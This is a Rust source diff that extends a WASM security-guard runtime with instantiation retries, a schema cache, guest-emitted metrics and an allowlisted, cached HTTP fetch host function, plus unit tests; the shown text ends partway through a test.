@@ -5,14 +5,20 @@
 //
 // Guards implement the WIT interface defined in examples/wasm-guards/simple-pattern-guard/wit/guard.wit
 
+use prometheus_client::metrics::counter::Counter;
+use prometheus_client::metrics::family::Family;
+use prometheus_client::registry::Registry;
 use serde::{Deserialize, Serialize};
 use std::collections::HashMap;
+use std::sync::atomic::AtomicU64;
 
 #[cfg(feature = "wasm-guards")]
 use {
 	super::native::NativeGuard,
-	super::{DenyReason, GuardContext, GuardDecision, GuardResult, ModifyAction},
-	std::time::{Duration, SystemTime, UNIX_EPOCH},
+	super::{DenyReason, GuardContext, GuardDecision, GuardResult, ModifyAction, glob_matches},
+	futures::future::BoxFuture,
+	std::sync::{Arc, Mutex, PoisonError, RwLock},
+	std::time::{Duration, Instant, SystemTime, UNIX_EPOCH},
 	wasmtime::component::{Component, Linker, Val},
 	wasmtime::{Config, Engine, Store},
 	wasmtime_wasi::{WasiCtx, WasiCtxBuilder, WasiView},
@@ -43,9 +49,30 @@ pub struct WasmGuardConfig {
 	#[serde(default = "default_timeout_ms")]
 	pub timeout_ms: u64,
 
+	/// Number of times to retry a transient instantiation failure (e.g. allocation
+	/// failure under memory pressure) before surfacing an error.
+	/// Deterministic failures such as link errors are never retried.
+	#[serde(default = "default_instantiate_retries")]
+	pub instantiate_retries: u32,
+
+	/// Initial backoff between instantiation retries (milliseconds).
+	/// Doubles on each subsequent attempt.
+	#[serde(default = "default_instantiate_backoff_ms")]
+	pub instantiate_backoff_ms: u64,
+
 	/// Configuration values passed to the WASM guard via get_config()
 	#[serde(default)]
 	pub config: HashMap<String, serde_json::Value>,
+
+	/// Hosts the guard may fetch through the `http-get` host function (exact host names
+	/// or `*` globs such as `*.intel.example`). Empty disables `http-get`.
+	#[serde(default, skip_serializing_if = "Vec::is_empty")]
+	pub http_allowed_hosts: Vec<String>,
+
+	/// How long successful `http-get` responses are cached per URL (milliseconds).
+	/// 0 disables caching.
+	#[serde(default = "default_http_cache_ttl_ms")]
+	pub http_cache_ttl_ms: u64,
 }
 
 fn default_max_memory() -> usize {
@@ -60,6 +87,90 @@ fn default_timeout_ms() -> u64 {
 	100
 }
 
+fn default_instantiate_retries() -> u32 {
+	2
+}
+
+fn default_instantiate_backoff_ms() -> u64 {
+	10
+}
+
+fn default_http_cache_ttl_ms() -> u64 {
+	60_000
+}
+
+/// Classification of a failed instantiation attempt
+#[cfg(feature = "wasm-guards")]
+#[derive(Debug)]
+enum InstantiateFailure {
+	/// May succeed on retry (e.g. allocation failure under memory pressure)
+	Transient(GuardError),
+	/// Will fail the same way on retry (e.g. unresolved import)
+	Permanent(GuardError),
+}
+
+#[cfg(feature = "wasm-guards")]
+impl InstantiateFailure {
+	/// Classify a wasmtime instantiation error.
+	/// Resource exhaustion is transient; everything else (link errors, start traps)
+	/// is deterministic for a given component and linker. A component that needs more
+	/// than the store's limits (`max_memory`) exceeds them on every attempt, so that is
+	/// permanent too.
+	fn classify(err: wasmtime::Error) -> Self {
+		let msg = format!("{:#}", err);
+		let lower = msg.to_lowercase();
+		let over_limit = ["exceeds memory limits", "resource limit exceeded"]
+			.iter()
+			.any(|needle| lower.contains(needle));
+		let transient = !over_limit
+			&& [
+				"out of memory",
+				"allocat",
+				"resource temporarily unavailable",
+				"mmap",
+			]
+			.iter()
+			.any(|needle| lower.contains(needle));
+
+		let msg = format!("Failed to instantiate component: {}", msg);
+		if transient {
+			InstantiateFailure::Transient(GuardError::DownstreamUnavailable(msg))
+		} else {
+			InstantiateFailure::Permanent(GuardError::WasmError(msg))
+		}
+	}
+}
+
+/// Run `f`, retrying transient failures up to `retries` times with exponential backoff.
+#[cfg(feature = "wasm-guards")]
+fn retry_with_backoff<T, F>(retries: u32, backoff: Duration, mut f: F) -> Result<T, GuardError>
+where
+	F: FnMut() -> Result<T, InstantiateFailure>,
+{
+	let mut attempt = 0;
+	loop {
+		match f() {
+			Ok(v) => return Ok(v),
+			Err(InstantiateFailure::Permanent(e)) => return Err(e),
+			Err(InstantiateFailure::Transient(e)) => {
+				if attempt >= retries {
+					return Err(e);
+				}
+				let delay = backoff.saturating_mul(1u32 << attempt.min(16));
+				attempt += 1;
+				tracing::debug!(
+					attempt,
+					retries,
+					delay_ms = delay.as_millis() as u64,
+					error = %e,
+					"Transient WASM instantiation failure, retrying"
+				);
+				std::thread::sleep(delay);
+			},
+		}
+	}
+}
+
 /// Run a closure on a thread with a large stack.
 /// Python WASM components require significant native stack space that exceeds
 /// the default thread stack size, especially on Windows where the main thread
@@ -82,11 +193,299 @@ where
 	})
 }
 
+/// Settings schema and default config reported by a WASM module
+#[cfg(feature = "wasm-guards")]
+#[derive(Debug, Clone)]
+pub struct ModuleSchemas {
+	/// Output of `get-settings-schema`
+	pub settings_schema: String,
+	/// Output of `get-default-config` (None if the module failed to provide one)
+	pub default_config: Option<String>,
+}
+
+/// Read-through cache of module schemas, keyed by module path and a digest of its contents.
+///
+/// Fetching a schema instantiates the component and runs guest code, which is slow
+/// for Python components; the UI asks for schemas on every page load. Entries are
+/// invalidated whenever the module's contents change, even if a rewrite keeps its
+/// size and (coarse) mtime; hashing the file is far cheaper than instantiating it.
+#[cfg(feature = "wasm-guards")]
+#[derive(Default)]
+pub struct SchemaCache {
+	entries: std::sync::Mutex<HashMap<std::path::PathBuf, ([u8; 32], ModuleSchemas)>>,
+	/// Number of cache misses that ran the loader
+	loads: std::sync::atomic::AtomicU64,
+}
+
+#[cfg(feature = "wasm-guards")]
+impl SchemaCache {
+	/// Return the cached schemas for `path`, running `load` on a miss or if the module changed
+	pub fn get_or_load<F>(&self, path: &std::path::Path, load: F) -> Result<ModuleSchemas, GuardError>
+	where
+		F: FnOnce() -> Result<ModuleSchemas, GuardError>,
+	{
+		let contents = std::fs::read(path).map_err(|e| {
+			GuardError::ConfigError(format!(
+				"Failed to read WASM module {}: {}",
+				path.display(),
+				e
+			))
+		})?;
+		let mut digest = [0u8; 32];
+		digest
+			.copy_from_slice(aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, &contents).as_ref());
+
+		if let Some((cached_digest, schemas)) = self
+			.entries
+			.lock()
+			.unwrap_or_else(PoisonError::into_inner)
+			.get(path)
+			&& *cached_digest == digest
+		{
+			return Ok(schemas.clone());
+		}
+
+		// Load without holding the lock; concurrent misses for the same module may
+		// both load, which is harmless
+		let schemas = load()?;
+		self
+			.loads
+			.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+		self
+			.entries
+			.lock()
+			.unwrap_or_else(PoisonError::into_inner)
+			.insert(path.to_path_buf(), (digest, schemas.clone()));
+		Ok(schemas)
+	}
+
+	/// Number of times a schema was loaded from a module rather than served from cache
+	pub fn load_count(&self) -> u64 {
+		self.loads.load(std::sync::atomic::Ordering::Relaxed)
+	}
+}
+
+/// Process-wide schema cache shared by all WASM guards and the UI schema endpoint
+#[cfg(feature = "wasm-guards")]
+pub static SCHEMA_CACHE: once_cell::sync::Lazy<SchemaCache> =
+	once_cell::sync::Lazy::new(SchemaCache::default);
+
+/// Labels of a metric emitted by a WASM guard: the guard id, the metric name, then the
+/// guest's own labels
+type GuestMetricLabels = Vec<(String, String)>;
+
+/// Most labels a guest may attach to one metric emission
+#[cfg(feature = "wasm-guards")]
+const MAX_GUEST_METRIC_LABELS: usize = 8;
+
+/// Counters WASM guards emit through the `emit-metric` host function
+pub static GUEST_METRICS: once_cell::sync::Lazy<
+	Family<GuestMetricLabels, Counter<f64, AtomicU64>>,
+> = once_cell::sync::Lazy::new(Family::default);
+
+/// Register the counters emitted by WASM guards with the gateway's metrics registry
+pub fn register_metrics(registry: &mut Registry) {
+	registry.register(
+		"mcp_guard_custom_metric",
+		"Counters emitted by WASM security guards",
+		GUEST_METRICS.clone(),
+	);
+}
+
+/// Add `value` to the guest metric `name` of guard `guard_id`. `labels` is a JSON object
+/// of string values, or empty.
+#[cfg(feature = "wasm-guards")]
+fn emit_guest_metric(guard_id: &str, name: &str, value: f64, labels: &str) -> Result<(), String> {
+	if name.is_empty()
+		|| !name
+			.chars()
+			.all(|c| c.is_ascii_alphanumeric() || c == '_' || c == ':')
+	{
+		return Err(format!("invalid metric name '{}'", name));
+	}
+	if !value.is_finite() || value < 0.0 {
+		return Err(format!("invalid value {} for counter '{}'", value, name));
+	}
+	let guest_labels: std::collections::BTreeMap<String, String> = if labels.trim().is_empty() {
+		Default::default()
+	} else {
+		serde_json::from_str(labels).map_err(|e| format!("invalid labels for '{}': {}", name, e))?
+	};
+	if guest_labels.len() > MAX_GUEST_METRIC_LABELS {
+		return Err(format!(
+			"too many labels for '{}' ({} > {})",
+			name,
+			guest_labels.len(),
+			MAX_GUEST_METRIC_LABELS
+		));
+	}
+	if let Some(reserved) = ["guard", "metric"]
+		.into_iter()
+		.find(|k| guest_labels.contains_key(*k))
+	{
+		return Err(format!("label '{}' is reserved", reserved));
+	}
+
+	let mut metric_labels = vec![
+		("guard".to_string(), guard_id.to_string()),
+		("metric".to_string(), name.to_string()),
+	];
+	metric_labels.extend(guest_labels);
+	GUEST_METRICS.get_or_create(&metric_labels).inc_by(value);
+	Ok(())
+}
+
+/// Largest response body `http-get` returns to a guest
+#[cfg(feature = "wasm-guards")]
+const MAX_HTTP_GET_BODY: usize = 1024 * 1024;
+
+/// Most URLs whose responses one guard keeps cached
+#[cfg(feature = "wasm-guards")]
+const MAX_HTTP_CACHE_ENTRIES: usize = 1024;
+
+/// Performs the network requests behind the `http-get` host function
+#[cfg(feature = "wasm-guards")]
+pub trait HttpFetcher: Send + Sync {
+	/// GET `url`, returning the body of a successful (2xx) response
+	fn get(&self, url: url::Url) -> BoxFuture<'static, Result<String, String>>;
+}
+
+#[cfg(feature = "wasm-guards")]
+impl HttpFetcher for crate::client::Client {
+	fn get(&self, url: url::Url) -> BoxFuture<'static, Result<String, String>> {
+		let client = self.clone();
+		Box::pin(async move {
+			let req = ::http::Request::get(url.as_str())
+				.body(crate::http::Body::empty())
+				.map_err(|e| e.to_string())?;
+			let resp = client.simple_call(req).await.map_err(|e| e.to_string())?;
+			if !resp.status().is_success() {
+				return Err(format!("GET {} returned {}", url, resp.status()));
+			}
+			let body = crate::http::read_body_with_limit(resp.into_body(), MAX_HTTP_GET_BODY)
+				.await
+				.map_err(|e| e.to_string())?;
+			String::from_utf8(body.to_vec()).map_err(|_| format!("GET {} returned a non-UTF-8 body", url))
+		})
+	}
+}
+
+#[cfg(feature = "wasm-guards")]
+static HTTP_FETCHER: once_cell::sync::Lazy<RwLock<Option<Arc<dyn HttpFetcher>>>> =
+	once_cell::sync::Lazy::new(Default::default);
+
+/// Install the fetcher behind WASM guards' `http-get`. Guards created afterwards use it;
+/// without one, `http-get` fails.
+#[cfg(feature = "wasm-guards")]
+pub fn set_http_fetcher(fetcher: Arc<dyn HttpFetcher>) {
+	*HTTP_FETCHER.write().unwrap_or_else(PoisonError::into_inner) = Some(fetcher);
+}
+
+/// Run `future` to completion from synchronous guard code
+#[cfg(feature = "wasm-guards")]
+fn block_on<F>(future: F) -> Result<F::Output, String>
+where
+	F: std::future::Future + Send,
+	F::Output: Send,
+{
+	match tokio::runtime::Handle::try_current() {
+		Ok(handle) if handle.runtime_flavor() == tokio::runtime::RuntimeFlavor::MultiThread => {
+			Ok(tokio::task::block_in_place(|| handle.block_on(future)))
+		},
+		// No runtime, or one whose only thread is busy running this guard: use a private one
+		_ => std::thread::scope(|s| {
+			s.spawn(|| {
+				tokio::runtime::Builder::new_current_thread()
+					.enable_all()
+					.build()
+					.map(|rt| rt.block_on(future))
+					.map_err(|e| format!("failed to start HTTP runtime: {}", e))
+			})
+			.join()
+			.unwrap_or_else(|panic| std::panic::resume_unwind(panic))
+		}),
+	}
+}
+
+/// Host allowlist and response cache behind one guard's `http-get`
+#[cfg(feature = "wasm-guards")]
+struct HostHttp {
+	/// Lowercased `http_allowed_hosts`
+	allowed_hosts: Vec<String>,
+	ttl: Duration,
+	timeout: Duration,
+	fetcher: Option<Arc<dyn HttpFetcher>>,
+	/// Successful responses by URL, with when they were fetched
+	cache: Mutex<HashMap<String, (Instant, String)>>,
+}
+
+#[cfg(feature = "wasm-guards")]
+impl HostHttp {
+	fn new(config: &WasmGuardConfig, fetcher: Option<Arc<dyn HttpFetcher>>) -> Self {
+		Self {
+			allowed_hosts: config
+				.http_allowed_hosts
+				.iter()
+				.map(|h| h.to_ascii_lowercase())
+				.collect(),
+			ttl: Duration::from_millis(config.http_cache_ttl_ms),
+			timeout: Duration::from_millis(config.timeout_ms),
+			fetcher,
+			cache: Default::default(),
+		}
+	}
+
+	/// GET `url` for a guest: allowlisted hosts only, served from the cache when fresh
+	fn get(&self, url: &str) -> Result<String, String> {
+		let url = url::Url::parse(url).map_err(|e| format!("invalid URL '{}': {}", url, e))?;
+		if !matches!(url.scheme(), "http" | "https") {
+			return Err(format!("unsupported URL scheme '{}'", url.scheme()));
+		}
+		let host = url.host_str().unwrap_or_default().to_ascii_lowercase();
+		if !self.allowed_hosts.iter().any(|h| glob_matches(h, &host)) {
+			return Err(format!("host '{}' is not in http_allowed_hosts", host));
+		}
+
+		let key = url.to_string();
+		{
+			let cache = self.cache.lock().unwrap_or_else(PoisonError::into_inner);
+			if let Some((fetched, body)) = cache.get(&key)
+				&& fetched.elapsed() < self.ttl
+			{
+				return Ok(body.clone());
+			}
+		}
+
+		let fetcher = self
+			.fetcher
+			.clone()
+			.ok_or_else(|| "no HTTP client is configured for WASM guards".to_string())?;
+		let timeout = self.timeout;
+		let body = block_on(async move { tokio::time::timeout(timeout, fetcher.get(url)).await })?
+			.map_err(|_| format!("GET {} timed out after {:?}", key, timeout))??;
+
+		if !self.ttl.is_zero() {
+			let mut cache = self.cache.lock().unwrap_or_else(PoisonError::into_inner);
+			if cache.len() >= MAX_HTTP_CACHE_ENTRIES {
+				cache.retain(|_, (fetched, _)| fetched.elapsed() < self.ttl);
+			}
+			if cache.len() < MAX_HTTP_CACHE_ENTRIES {
+				cache.insert(key, (Instant::now(), body.clone()));
+			}
+		}
+		Ok(body)
+	}
+}
+
 /// State stored in the wasmtime Store for host functions
 #[cfg(feature = "wasm-guards")]
 struct WasmState {
+	/// Id of the guard, namespacing the metrics it emits
+	guard_id: String,
 	/// Configuration values accessible via get_config()
 	config: HashMap<String, serde_json::Value>,
+	/// Backs the `http-get` host function; shared by all calls of the guard
+	http: Arc<HostHttp>,
 	/// WASI context for WASI imports
 	wasi: WasiCtx,
 	/// Resource table for component model resources
@@ -95,13 +494,19 @@ struct WasmState {
 
 #[cfg(feature = "wasm-guards")]
 impl WasmState {
-	fn new(config: HashMap<String, serde_json::Value>) -> Self {
+	fn new(
+		guard_id: String,
+		config: HashMap<String, serde_json::Value>,
+		http: Arc<HostHttp>,
+	) -> Self {
 		let wasi = WasiCtxBuilder::new()
 			.inherit_stdout()
 			.inherit_stderr()
 			.build();
 		Self {
+			guard_id,
 			config,
+			http,
 			wasi,
 			table: wasmtime::component::ResourceTable::new(),
 		}
@@ -126,30 +531,18 @@ pub struct WasmGuard {
 	engine: Engine,
 	component: Component,
 	config: WasmGuardConfig,
+	/// `config.module_path` with shell expansions applied
+	module_path: std::path::PathBuf,
+	http: Arc<HostHttp>,
 }
 
 #[cfg(feature = "wasm-guards")]
 impl WasmGuard {
 	/// Create a new WASM guard from config
 	pub fn new(guard_id: String, config: WasmGuardConfig) -> Result<Self, GuardError> {
-		// Validate config
-		if config.module_path.is_empty() {
-			return Err(GuardError::ConfigError(
-				"module_path cannot be empty".to_string(),
-			));
-		}
-
-		// Expand shell paths like ~ and environment variables
-		let expanded_path = shellexpand::full(&config.module_path)
-			.map_err(|e| GuardError::ConfigError(format!("Failed to expand path: {}", e)))?;
-
-		// Check if file exists
-		if !std::path::Path::new(expanded_path.as_ref()).exists() {
-			return Err(GuardError::ConfigError(format!(
-				"WASM module not found: {}",
-				expanded_path
-			)));
-		}
+		let expanded_path = Self::resolve_module_path(&config)?
+			.to_string_lossy()
+			.to_string();
 
 		// Configure wasmtime engine
 		let mut engine_config = Config::new();
@@ -178,14 +571,56 @@ impl WasmGuard {
 				"Loaded WASM guard component"
 		);
 
+		let fetcher = HTTP_FETCHER
+			.read()
+			.unwrap_or_else(PoisonError::into_inner)
+			.clone();
 		Ok(Self {
 			guard_id,
 			engine,
 			component,
+			http: Arc::new(HostHttp::new(&config, fetcher)),
 			config,
+			module_path: expanded_path.into(),
 		})
 	}
 
+	/// Validate and expand the configured module path
+	fn resolve_module_path(config: &WasmGuardConfig) -> Result<std::path::PathBuf, GuardError> {
+		// Validate config
+		if config.module_path.is_empty() {
+			return Err(GuardError::ConfigError(
+				"module_path cannot be empty".to_string(),
+			));
+		}
+
+		// Expand shell paths like ~ and environment variables
+		let expanded_path = shellexpand::full(&config.module_path)
+			.map_err(|e| GuardError::ConfigError(format!("Failed to expand path: {}", e)))?;
+
+		// Check if file exists
+		if !std::path::Path::new(expanded_path.as_ref()).exists() {
+			return Err(GuardError::ConfigError(format!(
+				"WASM module not found: {}",
+				expanded_path
+			)));
+		}
+
+		Ok(std::path::PathBuf::from(expanded_path.as_ref()))
+	}
+
+	/// Get a module's settings schema without compiling it when the cache is warm.
+	/// Used by the UI to describe guards that are configured but not yet loaded.
+	pub fn cached_settings_schema(
+		guard_id: String,
+		config: WasmGuardConfig,
+	) -> Result<String, GuardError> {
+		let path = Self::resolve_module_path(&config)?;
+		SCHEMA_CACHE
+			.get_or_load(&path, || Self::new(guard_id, config)?.load_schemas())
+			.map(|s| s.settings_schema)
+	}
+
 	/// Create a linker with host function imports
 	fn create_linker(&self) -> Result<Linker<WasmState>, GuardError> {
 		let mut linker = Linker::new(&self.engine);
@@ -250,14 +685,81 @@ impl WasmGuard {
 			)
 			.map_err(|e| GuardError::WasmError(format!("Failed to wrap get-config function: {}", e)))?;
 
+		// emit-metric(name: string, value: f64, labels: string)
+		instance
+			.func_wrap(
+				"emit-metric",
+				|store: wasmtime::StoreContextMut<WasmState>,
+				 (name, value, labels): (String, f64, String)| {
+					let guard_id = &store.data().guard_id;
+					if let Err(reason) = emit_guest_metric(guard_id, &name, value, &labels) {
+						tracing::warn!(
+							wasm_guard = true,
+							guard_id = %guard_id,
+							"Dropped guard metric: {}",
+							reason
+						);
+					}
+					Ok(())
+				},
+			)
+			.map_err(|e| GuardError::WasmError(format!("Failed to wrap emit-metric function: {}", e)))?;
+
+		// http-get(url: string) -> result<string, string>
+		instance
+			.func_wrap(
+				"http-get",
+				|store: wasmtime::StoreContextMut<WasmState>,
+				 (url,): (String,)|
+				 -> Result<(Result<String, String>,), wasmtime::Error> {
+					let state = store.data();
+					let result = state.http.get(&url);
+					if let Err(reason) = &result {
+						tracing::warn!(
+							wasm_guard = true,
+							guard_id = %state.guard_id,
+							url = %url,
+							"Guard http-get failed: {}",
+							reason
+						);
+					}
+					Ok((result,))
+				},
+			)
+			.map_err(|e| GuardError::WasmError(format!("Failed to wrap http-get function: {}", e)))?;
+
 		Ok(linker)
 	}
 
+	/// Instantiate the component, retrying transient failures with backoff.
+	fn instantiate(
+		&self,
+		linker: &Linker<WasmState>,
+		store: &mut Store<WasmState>,
+	) -> Result<wasmtime::component::Instance, GuardError> {
+		retry_with_backoff(
+			self.config.instantiate_retries,
+			Duration::from_millis(self.config.instantiate_backoff_ms),
+			|| {
+				linker
+					.instantiate(&mut *store, &self.component)
+					.map_err(InstantiateFailure::classify)
+			},
+		)
+		.inspect_err(|e| {
+			tracing::warn!(
+				guard_id = %self.guard_id,
+				error = %e,
+				"WASM guard instantiation failed"
+			);
+		})
+	}
+
 	/// Parse WIT decision result into GuardDecision
 	fn parse_decision(result: &[Val]) -> Result<GuardDecision, GuardError> {
 		// The result should be a single Result<decision, string> value
 		if result.is_empty() {
-			return Err(GuardError::WasmError(
+			return Err(GuardError::InvalidDecision(
 				"Empty result from WASM guard".to_string(),
 			));
 		}
@@ -283,7 +785,7 @@ impl WasmGuard {
 					"Unknown error from WASM guard".to_string(),
 				)),
 			},
-			other => Err(GuardError::WasmError(format!(
+			other => Err(GuardError::InvalidDecision(format!(
 				"Unexpected return type from WASM guard: {:?}",
 				other
 			))),
@@ -331,12 +833,12 @@ impl WasmGuard {
 					}
 					Ok(GuardDecision::Allow)
 				},
-				_ => Err(GuardError::WasmError(format!(
+				_ => Err(GuardError::InvalidDecision(format!(
 					"Unknown decision variant: {}",
 					name
 				))),
 			},
-			_ => Err(GuardError::WasmError(format!(
+			_ => Err(GuardError::InvalidDecision(format!(
 				"Expected variant, got: {:?}",
 				val
 			))),
@@ -380,7 +882,7 @@ impl WasmGuard {
 					details,
 				}))
 			},
-			_ => Err(GuardError::WasmError(format!(
+			_ => Err(GuardError::InvalidDecision(format!(
 				"Expected record for deny reason, got: {:?}",
 				val
 			))),
@@ -418,12 +920,14 @@ impl WasmGuard {
 	fn call_string_func(&self, func_name: &str) -> Result<String, GuardError> {
 		stacker::grow(8 * 1024 * 1024, || {
 			let linker = self.create_linker()?;
-			let state = WasmState::new(self.config.config.clone());
+			let state = WasmState::new(
+				self.guard_id.clone(),
+				self.config.config.clone(),
+				self.http.clone(),
+			);
 			let mut store = Store::new(&self.engine, state);
 
-			let instance = linker
-				.instantiate(&mut store, &self.component)
-				.map_err(|e| GuardError::WasmError(format!("Failed to instantiate component: {}", e)))?;
+			let instance = self.instantiate(&linker, &mut store)?;
 
 			let guard_export_idx = instance
 				.get_export(&mut store, None, "mcp:security-guard/guard@0.1.0")
@@ -465,15 +969,41 @@ impl WasmGuard {
 		})
 	}
 
+	/// Call the guest's schema functions (uncached)
+	fn load_schemas(&self) -> Result<ModuleSchemas, GuardError> {
+		let settings_schema = self.call_string_func("get-settings-schema")?;
+		let default_config = match self.call_string_func("get-default-config") {
+			Ok(config) => Some(config),
+			Err(e) => {
+				tracing::warn!(
+						guard_id = %self.guard_id,
+						error = %e,
+						"Failed to get default config from WASM guard"
+				);
+				None
+			},
+		};
+		Ok(ModuleSchemas {
+			settings_schema,
+			default_config,
+		})
+	}
+
 	/// Get the JSON Schema describing this guard's configurable parameters.
 	/// Returns JSON-serialized JSON Schema (Draft 2020-12).
+	/// Served from the schema cache unless the module changed since the last fetch.
 	pub fn get_settings_schema(&self) -> Result<String, GuardError> {
-		self.call_string_func("get-settings-schema")
+		SCHEMA_CACHE
+			.get_or_load(&self.module_path, || self.load_schemas())
+			.map(|s| s.settings_schema)
 	}
 
 	/// Get the default configuration as JSON.
 	pub fn get_default_config(&self) -> Result<String, GuardError> {
-		self.call_string_func("get-default-config")
+		SCHEMA_CACHE
+			.get_or_load(&self.module_path, || self.load_schemas())?
+			.default_config
+			.ok_or_else(|| GuardError::WasmError("WASM guard provided no default config".to_string()))
 	}
 }
 
@@ -493,13 +1023,15 @@ impl NativeGuard for WasmGuard {
 			);
 
 			let linker = self.create_linker()?;
-			let state = WasmState::new(self.config.config.clone());
+			let state = WasmState::new(
+				self.guard_id.clone(),
+				self.config.config.clone(),
+				self.http.clone(),
+			);
 			let mut store = Store::new(&self.engine, state);
 
 			// Instantiate the component
-			let instance = linker
-				.instantiate(&mut store, &self.component)
-				.map_err(|e| GuardError::WasmError(format!("Failed to instantiate component: {}", e)))?;
+			let instance = self.instantiate(&linker, &mut store)?;
 
 			// Get the exported function from the guard interface
 			// In component model, we need to get the exported instance first, then the function
@@ -611,12 +1143,14 @@ impl NativeGuard for WasmGuard {
 			);
 
 			let linker = self.create_linker()?;
-			let state = WasmState::new(self.config.config.clone());
+			let state = WasmState::new(
+				self.guard_id.clone(),
+				self.config.config.clone(),
+				self.http.clone(),
+			);
 			let mut store = Store::new(&self.engine, state);
 
-			let instance = linker
-				.instantiate(&mut store, &self.component)
-				.map_err(|e| GuardError::WasmError(format!("Failed to instantiate component: {}", e)))?;
+			let instance = self.instantiate(&linker, &mut store)?;
 
 			let guard_export_idx = instance
 				.get_export(&mut store, None, "mcp:security-guard/guard@0.1.0")
@@ -698,12 +1232,14 @@ impl NativeGuard for WasmGuard {
 			);
 
 			let linker = self.create_linker()?;
-			let state = WasmState::new(self.config.config.clone());
+			let state = WasmState::new(
+				self.guard_id.clone(),
+				self.config.config.clone(),
+				self.http.clone(),
+			);
 			let mut store = Store::new(&self.engine, state);
 
-			let instance = linker
-				.instantiate(&mut store, &self.component)
-				.map_err(|e| GuardError::WasmError(format!("Failed to instantiate component: {}", e)))?;
+			let instance = self.instantiate(&linker, &mut store)?;
 
 			let guard_export_idx = instance
 				.get_export(&mut store, None, "mcp:security-guard/guard@0.1.0")
@@ -786,13 +1322,15 @@ impl NativeGuard for WasmGuard {
 			);
 
 			let linker = self.create_linker()?;
-			let state = WasmState::new(self.config.config.clone());
+			let state = WasmState::new(
+				self.guard_id.clone(),
+				self.config.config.clone(),
+				self.http.clone(),
+			);
 			let mut store = Store::new(&self.engine, state);
 
 			// Instantiate the component
-			let instance = linker
-				.instantiate(&mut store, &self.component)
-				.map_err(|e| GuardError::WasmError(format!("Failed to instantiate component: {}", e)))?;
+			let instance = self.instantiate(&linker, &mut store)?;
 
 			// Get the exported function from the guard interface
 			let guard_export_idx = instance
@@ -865,6 +1403,10 @@ impl NativeGuard for WasmGuard {
 		})
 	}
 
+	fn is_heavy(&self) -> bool {
+		true
+	}
+
 	fn reset_server(&self, server_name: &str) {
 		// WASM guards are stateless by design - no per-server state to reset
 		tracing::debug!(
@@ -875,7 +1417,7 @@ impl NativeGuard for WasmGuard {
 	}
 
 	fn get_settings_schema(&self) -> Option<String> {
-		match self.call_string_func("get-settings-schema") {
+		match WasmGuard::get_settings_schema(self) {
 			Ok(schema) => Some(schema),
 			Err(e) => {
 				tracing::warn!(
@@ -889,7 +1431,7 @@ impl NativeGuard for WasmGuard {
 	}
 
 	fn get_default_config(&self) -> Option<String> {
-		match self.call_string_func("get-default-config") {
+		match WasmGuard::get_default_config(self) {
 			Ok(config) => Some(config),
 			Err(e) => {
 				tracing::warn!(
@@ -927,7 +1469,11 @@ mod tests {
 			max_memory: 1024 * 1024,
 			max_wasm_stack: default_max_wasm_stack(),
 			timeout_ms: 100,
+			instantiate_retries: default_instantiate_retries(),
+			instantiate_backoff_ms: default_instantiate_backoff_ms(),
 			config: HashMap::new(),
+			http_allowed_hosts: Vec::new(),
+			http_cache_ttl_ms: default_http_cache_ttl_ms(),
 		};
 
 		#[cfg(feature = "wasm-guards")]
@@ -941,7 +1487,11 @@ mod tests {
 			max_memory: 10 * 1024 * 1024,
 			max_wasm_stack: default_max_wasm_stack(),
 			timeout_ms: 100,
+			instantiate_retries: default_instantiate_retries(),
+			instantiate_backoff_ms: default_instantiate_backoff_ms(),
 			config: HashMap::new(),
+			http_allowed_hosts: Vec::new(),
+			http_cache_ttl_ms: default_http_cache_ttl_ms(),
 		};
 
 		// File doesn't exist, so this should also error
@@ -958,6 +1508,38 @@ mod tests {
 		}
 	}
 
+	#[test]
+	#[cfg(feature = "wasm-guards")]
+	fn test_guest_metric_emission_recorded() {
+		emit_guest_metric("pattern-guard", "detections", 2.0, r#"{"kind": "ssn"}"#).unwrap();
+		emit_guest_metric("pattern-guard", "detections", 1.0, r#"{"kind": "ssn"}"#).unwrap();
+
+		let mut registry = Registry::default();
+		register_metrics(&mut registry);
+		let mut output = String::new();
+		prometheus_client::encoding::text::encode(&mut output, &registry).unwrap();
+		assert!(
+			output.contains(
+				r#"mcp_guard_custom_metric_total{guard="pattern-guard",metric="detections",kind="ssn"} 3.0"#
+			),
+			"{output}"
+		);
+
+		// Malformed emissions are dropped instead of polluting the registry
+		for (name, value, labels) in [
+			("bad name", 1.0, ""),
+			("detections", -1.0, ""),
+			("detections", f64::NAN, ""),
+			("detections", 1.0, "not json"),
+			("detections", 1.0, r#"{"guard": "other"}"#),
+		] {
+			assert!(
+				emit_guest_metric("pattern-guard", name, value, labels).is_err(),
+				"{name} {value} {labels}"
+			);
+		}
+	}
+
 	#[test]
 	fn test_default_config_values() {
 		assert_eq!(default_max_memory(), 10 * 1024 * 1024);
@@ -996,7 +1578,111 @@ module_path: ./guards/test.wasm
 		assert_eq!(config.module_path, "./guards/test.wasm");
 		assert_eq!(config.max_memory, default_max_memory());
 		assert_eq!(config.timeout_ms, default_timeout_ms());
+		assert_eq!(config.instantiate_retries, default_instantiate_retries());
+		assert_eq!(
+			config.instantiate_backoff_ms,
+			default_instantiate_backoff_ms()
+		);
 		assert!(config.config.is_empty());
+		assert!(config.http_allowed_hosts.is_empty());
+		assert_eq!(config.http_cache_ttl_ms, default_http_cache_ttl_ms());
+	}
+
+	#[test]
+	#[cfg(feature = "wasm-guards")]
+	fn test_retry_with_backoff_recovers_from_transient_failure() {
+		let mut calls = 0;
+		let result = retry_with_backoff(2, Duration::from_millis(1), || {
+			calls += 1;
+			if calls == 1 {
+				Err(InstantiateFailure::Transient(GuardError::WasmError(
+					"out of memory".to_string(),
+				)))
+			} else {
+				Ok("instance")
+			}
+		});
+		assert_eq!(result.unwrap(), "instance");
+		assert_eq!(calls, 2);
+	}
+
+	#[test]
+	#[cfg(feature = "wasm-guards")]
+	fn test_retry_with_backoff_does_not_retry_permanent_failure() {
+		let mut calls = 0;
+		let result: Result<(), GuardError> = retry_with_backoff(2, Duration::from_millis(1), || {
+			calls += 1;
+			Err(InstantiateFailure::Permanent(GuardError::WasmError(
+				"Guard interface not found in component exports".to_string(),
+			)))
+		});
+		assert!(result.is_err());
+		assert_eq!(calls, 1);
+	}
+
+	#[test]
+	#[cfg(feature = "wasm-guards")]
+	fn test_retry_with_backoff_gives_up_after_retries() {
+		let mut calls = 0;
+		let result: Result<(), GuardError> = retry_with_backoff(2, Duration::from_millis(1), || {
+			calls += 1;
+			Err(InstantiateFailure::Transient(GuardError::WasmError(
+				"failed to allocate".to_string(),
+			)))
+		});
+		assert!(result.is_err());
